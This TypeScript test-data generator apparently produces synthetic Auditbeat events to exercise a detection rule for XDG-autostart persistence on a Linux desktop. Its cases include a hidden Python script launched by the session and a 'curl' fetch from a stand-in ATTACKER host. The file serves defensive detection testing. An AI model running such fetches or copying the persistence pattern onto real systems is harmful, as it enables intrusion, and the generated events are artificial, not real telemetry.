import type { JsonObject } from '@eqlkit/engine';
import { createRandom } from '../random.js';
import { ATTACKER } from '../xdg-autostart/attacker.js';
import { XFCE_DESKTOP } from '../xdg-autostart/desktop.js';
import { connectedEvent, executedEvent, existingProcessEvent, type AuditedProcess } from './auditbeat-events.js';

/** The seed of the file in `examples/auditbeat`. */
const EXAMPLE_SEED = 23;

const START_MS = Date.UTC(2026, 2, 2, 8, 30, 0);

const SESSION: AuditedProcess = {
  pid: 1_804,
  parentPid: 1_720,
  executable: '/usr/bin/xfce4-session',
  args: ['xfce4-session'],
};
const SHELL: AuditedProcess = { pid: 1_922, parentPid: 1_915, executable: '/usr/bin/bash', args: ['bash'] };

/** What a case plays: a program is started, and connects some time later. */
interface AuditbeatCase {
  readonly label: string;
  /** How often the XDG autostart rule alerts on it. */
  readonly alerts: number;
  readonly parent: AuditedProcess;
  /** The programs that the process runs, one after the other. */
  readonly programs: readonly { readonly executable: string; readonly args: readonly string[] }[];
  readonly ip: string;
  readonly delayMs: number;
}

const PYTHON = { executable: '/usr/bin/python3', args: ['python3', '/home/mira/.config/.cache/update.py'] };

/** Every case of the example, in order of time. */
export const AUDITBEAT_CASES: readonly AuditbeatCase[] = [
  { label: 'session-starts-python', alerts: 1, parent: SESSION, programs: [PYTHON], ip: ATTACKER, delayMs: 340 },
  { label: 'connects-too-late', alerts: 0, parent: SESSION, programs: [PYTHON], ip: ATTACKER, delayMs: 1_400 },
  { label: 'started-by-a-shell', alerts: 0, parent: SHELL, programs: [PYTHON], ip: ATTACKER, delayMs: 340 },
  { label: 'inside-the-network', alerts: 0, parent: SESSION, programs: [PYTHON], ip: '10.20.4.5', delayMs: 340 },
  {
    label: 'browser-of-the-session',
    alerts: 0,
    parent: SESSION,
    programs: [{ executable: '/usr/lib/firefox/firefox', args: ['firefox'] }],
    ip: ATTACKER,
    delayMs: 340,
  },
  {
    label: 'desktop-file-launcher',
    alerts: 1,
    parent: SHELL,
    programs: [
      {
        executable: '/bin/sh',
        args: ['/bin/sh', '-e', '-u', '-c', 'export GIO_LAUNCHED_DESKTOP_FILE_PID=$$; exec "$@"', 'sh', 'curl'],
      },
      { executable: '/usr/bin/curl', args: ['curl', '-s', `https://${ATTACKER}/a`] },
    ],
    ip: ATTACKER,
    delayMs: 610,
  },
  {
    label: 'session-starts-its-panel',
    alerts: 0,
    parent: SESSION,
    programs: [{ executable: '/usr/bin/xfce4-panel', args: ['xfce4-panel'] }],
    ip: '127.0.0.1',
    delayMs: 120,
  },
];

/**
 * A few minutes on a Linux desktop as Auditbeat's `system` and `auditd` modules write them: the processes that were there,
 * what a shell does, and every case of `AUDITBEAT_CASES`, each event of one with its label in `_case`. The same seed gives
 * the same events.
 */
export function generateAuditbeatEvents(seed: number = EXAMPLE_SEED): JsonObject[] {
  const random = createRandom(seed);
  const desktop = XFCE_DESKTOP;
  const timed: { readonly ms: number; readonly event: JsonObject }[] = [];
  let pid = 4_000;
  let sequence = 9_100;
  const nextPid = (): number => (pid += random.integer(1, 9));
  const add = (ms: number, label: string | null, event: JsonObject): void => {
    timed.push({ ms, event: { ...event, ...(label === null ? {} : { _case: label }) } });
  };
  for (const process of [SESSION, SHELL]) add(0, null, existingProcessEvent(desktop, process));
  for (let index = 0; index < 30; index += 1) {
    const program = random.pick(['ls', 'git', 'grep', 'make']);
    const process = { pid: nextPid(), parentPid: SHELL.pid, executable: `/usr/bin/${program}`, args: [program] };
    const ms = random.integer(500, 150_000);
    add(ms, null, executedEvent(desktop, process, (sequence += 1)));
    if (program !== 'git') continue;
    const remote = { ip: '10.20.4.9', port: 443 };
    add(ms + random.integer(20, 200), null, connectedEvent(desktop, process, remote, (sequence += 1)));
  }
  AUDITBEAT_CASES.forEach(({ label, parent, programs, ip, delayMs }, index) => {
    const startMs = 10_000 + index * 20_000 + random.integer(0, 900);
    const own = { pid: nextPid(), parentPid: parent.pid };
    let last: AuditedProcess = parent;
    programs.forEach((program, place) => {
      last = { ...own, ...program };
      add(startMs + place * 15, label, executedEvent(desktop, last, (sequence += 1)));
    });
    add(startMs + delayMs, label, connectedEvent(desktop, last, { ip, port: 443 }, (sequence += 1)));
  });
  return timed
    .sort((a, b) => a.ms - b.ms)
    .map(({ ms, event }) => ({ '@timestamp': new Date(START_MS + ms).toISOString(), ...event }));
}
